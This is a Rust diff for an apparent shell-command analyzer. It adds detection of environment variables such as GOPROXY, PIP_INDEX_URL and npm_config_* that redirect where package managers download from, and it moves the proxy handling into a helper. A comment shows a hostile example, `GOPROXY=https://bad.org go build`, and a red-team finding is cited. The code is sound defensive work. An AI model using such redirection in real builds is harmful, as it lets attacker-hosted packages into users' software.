@@ -115,6 +115,52 @@ impl Walk {
     }
 }
 
+/// Where a program goes because of its leading assignments: `https_proxy=http://x curl …`
+/// through the proxy (a copied segment's effects have it already), `GOPROXY=…`,
+/// `PIP_INDEX_URL=…` to the registry.
+fn env_destinations(rd: &SegmentReadings, effects: &mut [Effects]) {
+    // `https_proxy=http://x curl …`: the request goes through the proxy (a copied
+    // segment's effects have it already).
+    for (name, value) in rd.env.iter() {
+        let lower = name.to_ascii_lowercase();
+        if lower.ends_with("_proxy") {
+            for e in effects.iter_mut().filter(|e| e.net != effects::Net::No) {
+                e.urls.push(String::from_utf8_lossy(value).into_owned());
+            }
+        } else if downloads_from(&lower) {
+            // `GOPROXY=https://bad.org go build`, `PIP_INDEX_URL=… pip install`: the
+            // program downloads from there (red team 8, C8-nethost).
+            let mut urls = effects::net::hosts_in(&String::from_utf8_lossy(value));
+            if value.contains(&UNKNOWN) || value.contains(&WILD) {
+                urls.push(String::new());
+            }
+            for e in effects.iter_mut().filter(|e| !e.program.is_empty()) {
+                if !urls.is_empty() {
+                    e.urls.extend(urls.iter().cloned());
+                    e.net = effects::Net::Yes;
+                }
+            }
+        }
+    }
+}
+
+/// Environment variables (lower-cased) that name where a program downloads from: package
+/// indexes, registries, module proxies and mirrors.
+fn downloads_from(lower: &str) -> bool {
+    matches!(
+        lower,
+        "goproxy" | "gosumdb" | "goflags" | "rustup_dist_server" | "rustup_update_root"
+    ) || lower.ends_with("_index_url")
+        || lower.ends_with("_index")
+        || lower.ends_with("_registry")
+        || lower.ends_with("registry_url")
+        || lower.ends_with("_mirror")
+        || lower.starts_with("npm_config_")
+        || lower.starts_with("yarn_")
+        || lower.starts_with("cargo_registries_")
+        || lower.starts_with("bundle_mirror")
+}
+
 fn push_unique(v: &mut Vec<String>, s: &str) {
     if !v.iter().any(|x| x == s) {
         v.push(s.to_string());
@@ -194,14 +240,8 @@ pub fn walk_resolving(command: &str, resolve: Resolve<'_>) -> Walk {
             {
                 speculative += unknown_program_runs(&seg, &mut work);
             }
-            // `https_proxy=http://x curl …`: the request goes through the proxy (a copied
-            // segment's effects have it already).
-            for (name, value) in rd.env.iter().filter(|_| fresh) {
-                if name.to_ascii_lowercase().ends_with("_proxy") {
-                    for e in effects.iter_mut().filter(|e| e.net != effects::Net::No) {
-                        e.urls.push(String::from_utf8_lossy(value).into_owned());
-                    }
-                }
+            if fresh {
+                env_destinations(&rd, &mut effects);
             }
             let redirects = redirect_uses(&seg);
             let uses = effects.iter().map(|e| e.files.len()).sum::<usize>() + redirects.len();
